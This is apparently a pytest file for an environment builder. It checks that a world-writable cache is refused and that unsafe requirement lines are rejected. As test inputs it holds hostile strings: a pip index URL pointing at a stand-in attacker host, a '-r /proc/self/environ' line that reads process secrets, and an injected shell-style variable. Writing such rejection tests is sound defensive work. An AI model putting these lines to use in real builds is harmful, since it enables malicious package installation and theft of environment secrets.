"""What an environment build refuses before running anything."""

from __future__ import annotations

from pathlib import Path

import pytest

from picloud_compat.environments.builder import EnvBuilder, EnvBuildFailed
from picloud_compat.environments.spec import EnvSpec


def test_a_cache_others_can_write_is_refused(tmp_path: Path) -> None:
    shared = tmp_path / "envs"
    shared.mkdir(mode=0o777)
    shared.chmod(0o777)  # like /tmp: anyone could plant a "build" here
    with pytest.raises(EnvBuildFailed, match="writable by no one else"):
        EnvBuilder(shared).python(EnvSpec("x", ("inflection==0.5.1",)))


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://attacker.example/simple",
        "-r /proc/self/environ",
        "x; os_name == '${HOME}'",
    ],
)
def test_requirements_are_checked_again_on_the_worker(tmp_path: Path, line: str) -> None:
    """A record written straight into the store (not through create) is re-checked."""
    with pytest.raises(ValueError, match="not accepted here"):
        EnvBuilder(tmp_path / "envs").python(EnvSpec("x", (line,)))
    assert not any((tmp_path / "envs").glob("*.building-*"))
